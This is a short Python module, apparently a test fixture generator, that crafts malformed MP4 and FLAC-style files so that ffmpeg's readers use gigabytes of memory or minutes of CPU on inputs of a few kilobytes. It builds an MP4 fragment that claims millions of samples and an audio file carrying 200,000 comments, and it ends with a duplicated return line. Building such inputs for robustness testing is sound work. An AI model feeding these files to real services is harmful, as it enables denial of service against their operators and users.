"""Small files that cost ffmpeg's readers gigabytes or minutes, before there is any sound."""

import struct
from pathlib import Path

import av
import numpy as np
import soundfile


def mp4_box(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content) + 8) + name + content


def promising(path: Path) -> Path:
    """Three kilobytes that promise thirty times three million samples of no size: 3 GB in ffmpeg's index."""
    with av.open(str(path), "w", format="mp4", options={"movflags": "frag_keyframe+empty_moov+default_base_moof"}) as container:
        stream = container.add_stream("aac", rate=16000, layout="mono")
        frame = av.AudioFrame.from_ndarray(np.zeros((1, 16000), np.float32), format="fltp", layout="mono")
        frame.sample_rate = 16000
        container.mux([*stream.encode(frame), *stream.encode(None)])
    start = path.read_bytes()
    track = mp4_box(b"tfhd", struct.pack(">IIII", 0x020018, 1, 64, 1)) + mp4_box(b"trun", struct.pack(">IIi", 1, 3_000_000, 100)) * 30
    fragment = mp4_box(b"moof", mp4_box(b"mfhd", struct.pack(">II", 0, 1)) + mp4_box(b"traf", track))
    path.write_bytes(start[: start.index(b"moof") - 4] + fragment + mp4_box(b"mdat", bytes(2000)))
    return path


def commented(path: Path) -> Path:
    """A tone with 200,000 different comments: ffmpeg compares each with all before it."""
    count = 200_000
    soundfile.write(path, 0.1 * np.sin(np.arange(16000) / 8), 16000)
    plain = path.read_bytes()
    comments = struct.pack("<II", 0, count) + b"".join(struct.pack("<I", 9) + b"k%06d=v" % number for number in range(count))
    path.write_bytes(plain[:4] + b"\x00" + plain[5:42] + b"\x04" + len(comments).to_bytes(3, "big") + comments + plain[42:])
    return path
    return path
